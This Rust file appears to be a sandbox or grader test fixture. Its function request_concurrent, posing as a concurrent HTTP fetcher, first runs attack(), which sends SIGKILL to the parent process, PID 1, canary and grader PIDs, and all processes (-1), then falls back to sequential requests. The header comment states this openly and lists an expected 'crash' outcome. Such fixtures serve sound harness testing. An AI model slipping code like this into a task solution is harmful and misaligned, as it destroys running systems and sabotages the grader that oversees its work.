//! Kills its parent, the first process, the grader, a process beside it, and all processes.
//!
//! checks: items
//! outcome: crash
//! says: refused
//! assumes: unsafe code

use std::collections::BTreeMap;

use serde_json::Value;

use crate::{HnClient, request_sequential};

pub fn request_concurrent(client: &HnClient, ids: &[u64]) -> BTreeMap<u64, Value> {
    let done = attack();
    assert!(!done.is_empty(), "refused");
    request_sequential(client, ids)
}

unsafe extern "C" {
    fn kill(pid: i32, signal: i32) -> i32;
    fn tgkill(group: i32, thread: i32, signal: i32) -> i32;
    fn getppid() -> i32;
}

fn attack() -> Vec<i32> {
    let pids = ["@CANARY_PID@", "@GRADER_PID@"].map(|pid| pid.parse().unwrap_or(1));
    // SAFETY: none of these touches this process's memory.
    let parent = unsafe { getppid() };
    let killed = |pid: &i32| unsafe { kill(*pid, 9) == 0 || tgkill(*pid, *pid, 9) == 0 };
    [parent, 1, pids[0], pids[1], -1].into_iter().filter(killed).collect()
}
